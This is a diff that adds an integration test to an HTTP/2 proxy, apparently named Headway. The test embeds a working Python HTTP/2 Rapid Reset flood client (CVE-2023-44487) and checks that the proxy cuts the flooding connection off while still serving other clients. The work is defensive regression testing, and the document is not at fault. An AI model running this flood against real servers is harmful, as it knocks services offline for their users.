@@ -148,5 +148,68 @@ extension IntegrationTests {
             #expect(output.contains("recv GOAWAY frame"), "\(output)")
             #expect(drain < .seconds(3), "the drain waited \(drain) for a connection with nothing left in flight")
         }
+
+        /// A client that opens streams and cancels them at once, as fast as it can (CVE-2023-44487), with the
+        /// `h2` package from PyPI: it prints how many it sent, and whether Headway then closed the connection
+        /// (with a GOAWAY it read, or a reset that lost it).
+        private static let rapidReset = """
+            import socket, sys, h2.config, h2.connection, h2.events
+            port, attempts = int(sys.argv[1]), int(sys.argv[2])
+            sock = socket.create_connection(("127.0.0.1", port))
+            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+            conn.initiate_connection()
+            sock.sendall(conn.data_to_send())
+            sent, closed = 0, False
+            try:
+                for _ in range(attempts):
+                    stream = conn.get_next_available_stream_id()
+                    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "web")]
+                    conn.send_headers(stream, headers, end_stream=True)
+                    conn.reset_stream(stream)
+                    sock.sendall(conn.data_to_send())
+                    sent += 1
+            except (OSError, h2.exceptions.ProtocolError):
+                closed = True
+            sock.settimeout(3)
+            try:
+                while not closed:
+                    data = sock.recv(65536)
+                    if not data:
+                        closed = True
+                    for event in conn.receive_data(data):
+                        if isinstance(event, h2.events.ConnectionTerminated):
+                            closed = True
+            except socket.timeout:
+                pass
+            except (OSError, h2.exceptions.ProtocolError):
+                closed = True
+            print(sent, "closed" if closed else "open")
+            """
+
+        @Test func aClientThatResetsStreamsInATightLoopIsCutOffAndOthersAreServed() async throws {
+            let pods = try await NginxPods.start()
+            defer { pods.stop() }
+            let headway = try await InProcessHeadway.start { $0[list: "--endpoints"] = pods.endpoints }
+            let attack = Task {
+                try await Command.run(
+                    ["python3", "-c", Self.rapidReset, "\(headway.listen.port!)", "50000"],
+                    timeout: 60
+                )
+            }
+            let others = try await Command.run(
+                ["h2load", "-c2", "-m4", "-n400", "\(headway.listenURL)/"],
+                timeout: 60
+            )
+            let result = try await attack.value
+            try await headway.stop()
+            let words = result.stdout.split(separator: " ").map { $0.trimmingCharacters(in: .whitespacesAndNewlines) }
+            #expect(words.count == 2, "\(result.stdout) \(result.stderr)")
+            // swift-nio-http2 allows 200 resets in 30 s, then ends the connection (ENHANCE_YOUR_CALM).
+            #expect(words.last == "closed", "the connection was not cut off: \(result.stdout)")
+            #expect(others.stdout.contains("400 succeeded, 0 failed"), "\(others.stdout)")
+            // Every reset stream cancelled its request; what reached the pods stayed bounded by the budget.
+            let reached = try pods.pods.map { try $0.accessLog().count }.reduce(0, +) - 400
+            #expect(reached <= 1000, "\(reached) requests of reset streams reached the pods")
+        }
     }
 }
